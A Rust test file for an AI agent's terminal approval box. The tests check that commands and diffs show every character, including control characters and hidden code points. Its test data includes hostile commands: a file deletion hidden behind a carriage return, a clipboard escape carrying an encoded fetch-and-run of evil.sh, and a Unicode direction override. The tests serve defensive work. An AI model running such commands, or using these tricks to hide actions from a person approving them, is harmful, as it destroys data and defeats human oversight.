//! The approval box shows exactly what will run: the whole command and the whole diff, every
//! character on screen at any width, control characters visible rather than acted on, long
//! content scrollable, and "always" offered only where it can cover the call — saying what it
//! covers.

use keel::agent::{Activity, ApprovalRequest, Asking, Command, Decision, Snapshot};
use keel::tui::type_ahead::GRACE_PERIOD;
use keel::tui::{App, TuiOptions, render};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::layout::Rect;
use std::sync::Arc;
use std::time::Instant;
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};

/// Widths the box must hold every character at.
const WIDTHS: [u16; 3] = [40, 60, 120];
/// Tall enough that nothing scrolls.
const TALL: u16 = 200;

fn request(tool: &str, detail: &str, diff: Option<&str>, always: Option<&str>) -> ApprovalRequest {
    ApprovalRequest {
        id: "call_1".into(),
        tool: tool.into(),
        asking: if tool == "bash" { Asking::Command } else { Asking::Change },
        detail: detail.into(),
        diff: diff.map(str::to_owned),
        always: always.map(str::to_owned),
        sandbox: None,
        agent: None,
        check: None,
    }
}

fn app_with(request: ApprovalRequest) -> (App, UnboundedReceiver<Command>) {
    let (tx, rx) = unbounded_channel();
    let mut app = App::new(tx, TuiOptions::default());
    // On screen longer than the type-ahead grace period: its keys answer it.
    let settled = Instant::now().checked_sub(GRACE_PERIOD).unwrap();
    let snapshot = Snapshot {
        seq: 1,
        activity: Activity::AwaitingApproval,
        pending_approval: Some(Arc::new(request)),
        ..Snapshot::default()
    };
    app.apply_snapshot_at(snapshot, settled);
    (app, rx)
}

fn screen(app: &mut App, width: u16, height: u16) -> Vec<Vec<String>> {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    app.prepare(Rect::new(0, 0, width, height));
    terminal.draw(|frame| render(app, frame)).unwrap();
    let buffer = terminal.backend().buffer();
    (0..height).map(|y| (0..width).map(|x| buffer[(x, y)].symbol().to_owned()).collect()).collect()
}

/// The rows inside the approval box, padding and borders taken off.
fn box_rows(cells: &[Vec<String>]) -> Vec<String> {
    let top = cells
        .iter()
        .position(|row| row.concat().contains("Approval needed"))
        .expect("no approval box on screen");
    let left = cells[top].iter().position(|cell| cell == "╭").unwrap();
    let right = cells[top].iter().rposition(|cell| cell == "╮").unwrap();
    let mut rows = Vec::new();
    for row in &cells[top + 1..] {
        if row[left] == "╰" {
            break;
        }
        // A column of padding on each side of the text.
        rows.push(row[left + 2..right - 1].concat());
    }
    rows
}

/// The command as the box shows it: its lines after the heading, indent taken off, rejoined.
fn shown_command(rows: &[String]) -> String {
    rows.iter()
        .skip(1)
        .take_while(|row| !row.trim().is_empty())
        .map(|row| row.strip_prefix("  ").unwrap_or(row).trim_end_matches(' '))
        .collect()
}

fn hostile_commands() -> Vec<String> {
    vec![
        "rm -f important.txt; touch X;\recho looks-harmless".to_owned(),
        "printf '\u{1b}]0;pwned\u{7}' && echo '\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}'"
            .to_owned(),
        "echo safe\u{202e}lmth.exe\u{200b}".to_owned(),
        format!("cargo build --release && {}", "x".repeat(300)),
        "for f in *.rs; do\n\techo \"$f\"\ndone".to_owned(),
    ]
}

/// What each line of `command` must read as on screen: nothing hidden, nothing acted on.
fn expected(command: &str) -> String {
    command
        .split('\n')
        .map(|line| {
            keel::visible::visible(line).replace('\t', "    ").trim_end_matches(' ').to_owned()
        })
        .collect()
}

#[test]
fn every_character_of_the_command_is_on_screen_at_every_width() {
    for command in hostile_commands() {
        for width in WIDTHS {
            let (mut app, _rx) = app_with(request("bash", &command, None, None));
            let rows = box_rows(&screen(&mut app, width, TALL));
            let shown = shown_command(&rows);
            assert_eq!(
                shown.replace(' ', ""),
                expected(&command).replace(' ', ""),
                "at width {width}: {rows:#?}"
            );
            assert!(!rows.concat().contains('\u{1b}'), "an escape reached the screen");
            assert!(!rows.concat().contains('\r'), "a carriage return reached the screen");
        }
    }
}

/// Code points Unicode keeps default-ignorable but has not assigned yet draw as nothing on a
/// terminal too: the box names each.
#[test]
fn unassigned_default_ignorable_code_points_are_named_in_the_box() {
    let hidden = ['\u{fff0}', '\u{fff8}', '\u{e0080}', '\u{e00ff}', '\u{e01f0}', '\u{e0fff}'];
    let command: String = hidden.iter().map(|c| format!("rm{c} ")).collect();
    let (mut app, _rx) = app_with(request("bash", &command, None, None));
    let rows = box_rows(&screen(&mut app, 120, 40)).concat();
    for c in hidden {
        assert!(!rows.contains(c), "U+{:04X} reached the screen raw", c as u32);
        assert!(rows.contains(&format!("rm⟨U+{:04X}⟩", c as u32)), "{rows}");
    }
}

#[test]
fn text_before_a_carriage_return_is_not_hidden() {
    let (mut app, _rx) =
        app_with(request("bash", "rm -f important.txt; touch X;\recho looks-harmless", None, None));
    let rows = box_rows(&screen(&mut app, 120, 40)).concat();
    assert!(rows.contains("rm -f important.txt; touch X;␍echo looks-harmless"), "{rows}");
}

#[test]
fn a_long_diff_is_wrapped_never_cut_and_scrolls_to_its_end() {
    let payload = format!("+{} PAYLOAD-AT-THE-END", "a".repeat(150));
    let diff =
        format!("--- a/x.py\n+++ b/x.py\n@@ -1 +1,40 @@\n{}{payload}\n", "+line\n".repeat(40));
    let (mut app, _rx) =
        app_with(request("write_file", "x.py", Some(&diff), Some("every write_file call")));
    // Tall: the payload is on screen whole, wrapped.
    let rows = box_rows(&screen(&mut app, 60, TALL)).concat();
    assert!(rows.replace(' ', "").contains(&payload.replace(' ', "")), "{rows}");
    // Short: it is reached by scrolling.
    let (mut app, _rx) =
        app_with(request("write_file", "x.py", Some(&diff), Some("every write_file call")));
    let mut seen = String::new();
    for _ in 0..60 {
        seen.push_str(&box_rows(&screen(&mut app, 60, 20)).concat());
        app.handle_key(KeyEvent::new(KeyCode::Char('j'), KeyModifiers::NONE));
    }
    assert!(seen.contains("PAYLOAD-AT-THE-END"), "scrolling never reached the end of the diff");
}

#[test]
fn the_box_says_what_always_covers_and_hides_it_where_it_cannot() {
    let (mut app, _rx) =
        app_with(request("bash", "cargo test", None, Some("`cargo test` commands")));
    let rows = box_rows(&screen(&mut app, 120, 40)).concat();
    assert!(rows.contains("a: always allow `cargo test` commands"), "{rows}");
    assert!(rows.contains("a always"), "{rows}");

    let (mut app, mut rx) = app_with(request("bash", "ls && touch X", None, None));
    let rows = box_rows(&screen(&mut app, 120, 40)).concat();
    assert!(rows.contains("a: not offered"), "{rows}");
    assert!(!rows.contains("a always"), "{rows}");
    app.handle_key(KeyEvent::new(KeyCode::Char('a'), KeyModifiers::NONE));
    assert!(rx.try_recv().is_err(), "`a` answers nothing when always is not offered");
    app.handle_key(KeyEvent::new(KeyCode::Char('y'), KeyModifiers::NONE));
    assert_eq!(
        rx.try_recv().unwrap(),
        Command::Approve { id: "call_1".into(), decision: Decision::Once }
    );
}

#[test]
fn a_quick_answer_key_is_not_left_in_the_composer_once_the_box_is_answered() {
    let (tx, mut rx) = unbounded_channel();
    let mut app = App::new(tx, TuiOptions::default());
    let shown = Instant::now();
    let snapshot = Snapshot {
        seq: 1,
        activity: Activity::AwaitingApproval,
        pending_approval: Some(Arc::new(request("bash", "cargo test", None, None))),
        ..Snapshot::default()
    };
    app.apply_snapshot_at(snapshot, shown);
    let y = KeyEvent::new(KeyCode::Char('y'), KeyModifiers::NONE);
    // Too soon after the box appeared: the key goes to the composer, the box waits.
    app.handle_key_at(y, shown + std::time::Duration::from_millis(100));
    assert_eq!(app.composer_text(), "y");
    assert!(rx.try_recv().is_err(), "nothing answered yet");
    // After a pause, `y` answers; the stray `y` was meant for the box, not a prompt.
    app.handle_key_at(y, shown + 2 * GRACE_PERIOD);
    assert!(matches!(rx.try_recv(), Ok(Command::Approve { decision: Decision::Once, .. })));
    assert_eq!(app.composer_text(), "", "no lone `y` waits to be sent as a prompt");
}

#[test]
fn a_prompt_being_typed_when_the_box_appeared_is_kept_whole() {
    let (tx, _rx) = unbounded_channel();
    let mut app = App::new(tx, TuiOptions::default());
    let start = Instant::now();
    for (at, c) in "also tests".chars().enumerate() {
        let at = start + std::time::Duration::from_millis(50 * u64::try_from(at).unwrap());
        app.handle_key_at(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE), at);
    }
    let shown = start + std::time::Duration::from_millis(600);
    let snapshot = Snapshot {
        seq: 1,
        activity: Activity::AwaitingApproval,
        pending_approval: Some(Arc::new(request("bash", "cargo test", None, None))),
        ..Snapshot::default()
    };
    app.apply_snapshot_at(snapshot, shown);
    let key = |c| KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE);
    app.handle_key_at(key('y'), shown + std::time::Duration::from_millis(50));
    app.handle_key_at(key('y'), shown + 3 * GRACE_PERIOD);
    assert_eq!(
        app.composer_text(),
        "also testsy",
        "typing that began before the box is the person's"
    );
}
